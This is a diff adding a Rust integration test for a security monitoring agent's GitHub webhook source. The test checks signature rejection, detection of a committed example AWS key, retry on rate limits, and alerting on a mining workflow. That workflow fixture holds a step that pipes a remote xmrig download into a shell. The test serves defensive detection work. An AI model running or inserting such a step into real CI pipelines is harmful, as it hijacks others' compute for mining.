@@ -452,3 +452,126 @@ fn followed_file_is_read_exactly_once_across_rotation_truncation_and_kill_9() {
     ids.dedup();
     assert_eq!(ids.len(), 300);
 }
+
+#[test]
+fn github_webhook_checks_signatures_and_reads_diffs_and_workflows_from_the_api() {
+    use tripline_testkit::{ApiServer, Route};
+    let commit = serde_json::json!({
+        "sha": "c0ffee",
+        "files": [
+            {"filename": "README.md", "patch": "@@ -1 +1 @@\n-old\n+new"},
+            {"filename": "deploy/app.env", "patch": "@@ -3,2 +3,3 @@\n REGION=us-east-1\n+AWS_ACCESS_KEY_ID=AKIAIOSFODNN7EXAMPLE\n DEBUG=0"}
+        ]
+    });
+    let api = ApiServer::start(vec![
+        // The first call is rate limited, as the API answers when the budget is spent.
+        Route::json("GET", "/repos/acme/app/commits/c0ffee", 403, r#"{"message":"API rate limit exceeded"}"#)
+            .header("X-RateLimit-Remaining", "0")
+            .header("Retry-After", "1")
+            .times(1),
+        Route::json("GET", "/repos/acme/app/commits/c0ffee", 200, commit.to_string()),
+        Route::json(
+            "GET",
+            "/repos/acme/app/contents/.github/workflows/build.yml",
+            200,
+            "on: push\njobs:\n  build:\n    runs-on: ubuntu-latest\n    steps:\n      - run: curl -sL https://example.invalid/xmrig | sh -s -- -o stratum+tcp://pool:3333\n",
+        ),
+    ]);
+    let dir = tempfile::tempdir().unwrap();
+    let secret = dir.path().join("secret");
+    std::fs::write(&secret, "hook-secret\n").unwrap();
+    let mut agent = Agent::start(&[
+        "--no-sensor",
+        "--no-ui",
+        "--no-store",
+        "--source",
+        "github=webhook",
+        "--webhook-listen",
+        "127.0.0.1:0",
+        "--github-webhook-secret-file",
+        secret.to_str().unwrap(),
+        "--github-api-url",
+        &api.url(),
+        "--format",
+        "json",
+    ]);
+    let line = agent.wait_stderr("GitHub webhook at http://");
+    let url = line.rsplit(' ').next().unwrap().to_string();
+    let client: ureq::Agent = ureq::Agent::config_builder()
+        .http_status_as_error(false)
+        .build()
+        .into();
+    let repo = serde_json::json!({
+        "full_name": "acme/app", "html_url": "https://github.com/acme/app", "private": false,
+        "owner": {"login": "acme"}
+    });
+    let deliver = |event: &str, body: &Value, sig: Option<&str>| {
+        let text = body.to_string();
+        let good = tripline_live::github::signature(b"hook-secret", text.as_bytes());
+        let mut req = client
+            .post(&url)
+            .header("X-GitHub-Event", event)
+            .header("Content-Type", "application/json");
+        if let Some(s) = sig {
+            req = req.header(
+                "X-Hub-Signature-256",
+                if s == "good" { good.as_str() } else { s },
+            );
+        }
+        req.send(&text).unwrap().status().as_u16()
+    };
+    let push = serde_json::json!({
+        "ref": "refs/heads/main", "repository": repo, "sender": {"login": "mallory"},
+        "commits": [{"id": "c0ffee", "modified": ["deploy/app.env"]}]
+    });
+    assert_eq!(deliver("push", &push, None), 401);
+    assert_eq!(deliver("push", &push, Some("sha256=00")), 401);
+    assert_eq!(deliver("push", &push, Some("good")), 200);
+    let run = serde_json::json!({
+        "action": "requested", "repository": repo, "sender": {"login": "mallory"},
+        "workflow_run": {"path": ".github/workflows/build.yml", "head_sha": "c0ffee"}
+    });
+    assert_eq!(deliver("workflow_run", &run, Some("good")), 200);
+    let printed = agent.stdout.clone();
+    let err = agent.stop();
+    let alerts: Vec<Value> = printed
+        .lock()
+        .unwrap()
+        .iter()
+        .filter_map(|l| serde_json::from_str(l).ok())
+        .collect();
+    let secret_alert = alerts
+        .iter()
+        .find(|a| a["rule"] == "Secret pushed into a public repository")
+        .unwrap_or_else(|| panic!("no secret alert: {alerts:?} {err}"));
+    let fields = &secret_alert["output_fields"];
+    assert_eq!(
+        fields["github.diff.committed_secrets.desc"],
+        "AWS Access Key ID"
+    );
+    assert_eq!(
+        fields["github.diff.committed_secrets.files"],
+        "deploy/app.env"
+    );
+    assert_eq!(fields["github.diff.committed_secrets.lines"], "4");
+    assert_eq!(
+        fields["github.diff.committed_secrets.links"],
+        "https://github.com/acme/app/blob/c0ffee/deploy/app.env#L4"
+    );
+    let miner = alerts
+        .iter()
+        .find(|a| a["rule"] == "Github action with miners")
+        .unwrap_or_else(|| panic!("no miner alert: {alerts:?} {err}"));
+    assert_eq!(
+        miner["output_fields"]["github.workflow.filename"],
+        ".github/workflows/build.yml"
+    );
+    assert!(err.contains("2 unauthorized"), "{err}");
+    // The rate-limited call was retried.
+    let calls = api
+        .requests()
+        .iter()
+        .filter(|r| r.path == "/repos/acme/app/commits/c0ffee")
+        .count();
+    assert_eq!(calls, 2);
+}
